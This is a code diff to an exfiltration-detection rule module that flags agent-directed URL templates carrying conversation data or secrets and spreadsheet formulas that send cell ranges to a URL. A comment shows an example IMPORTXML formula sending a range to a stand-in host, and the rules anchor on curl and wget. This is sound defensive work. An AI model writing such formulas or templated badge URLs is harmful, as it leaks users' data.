@@ -28,9 +28,12 @@ function inCodeSpan(m: RegExpExecArray, line: string): boolean {
   const ticks = (line.slice(0, m.index).match(/`/g) ?? []).length
   return ticks % 2 === 1 && line.includes('`', m.index + m[0].length)
 }
-/** The URL (group 1) templates data: a placeholder named for conversation data or secrets. */
+/**
+ * The URL (group 1) templates data: a placeholder named for conversation data or secrets. A code span that is the
+ * whole line is the template the agent is to write out ("add this badge to each summary:"), not an aside.
+ */
 function namesData(m: RegExpExecArray, line: string): boolean {
-  return !inCodeSpan(m, line) && urlPlaceholders(m[1]!).some(p => isDataName(p.name))
+  return (!inCodeSpan(m, line) || /^\s*`[^`]+`\s*$/.test(line)) && urlPlaceholders(m[1]!).some(p => isDataName(p.name))
 }
 /** The URL templates something into its query string, whatever its name (an image loads without a click). */
 function queryTemplate(m: RegExpExecArray, line: string): boolean {
@@ -153,6 +156,17 @@ export const exfiltration: RuleModule = {
       accept: namesData,
     },
     ...EXFIL_PROSE,
+    {
+      // `=IMPORTXML("https://host/b?id="&ENCODEURL(TEXTJOIN(";",TRUE,Deals!A2:A200)), ...)`: a sheet's formula sends
+      // a range of cells with every recalculation. One cell is a lookup's key (a ticker), not a dump.
+      anchor: 'IMPORTXML|IMPORTDATA|IMPORTHTML|IMPORTFEED|IMAGE|WEBSERVICE',
+      re: new RegExp(
+        String.raw`\b(?:IMPORTXML|IMPORTDATA|IMPORTHTML|IMPORTFEED|IMAGE|WEBSERVICE)\s*\(\s*"https?:\/\/[^"\n]*"\s*&`
+        + String.raw`[^\n]{0,200}?(?:\$?[A-Z]{1,3}\$?\d*:\$?[A-Z]{1,3}\$?\d*\b|\b(?:TEXTJOIN|CONCATENATE|JOIN)\s*\()`,
+      ),
+      langs: ['prose', 'text', 'js', 'py', 'sh'],
+      message: 'a spreadsheet formula sends a range of cells to a URL (with every recalculation)',
+    },
     {
       anchor: 'curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm',
       re: new RegExp(
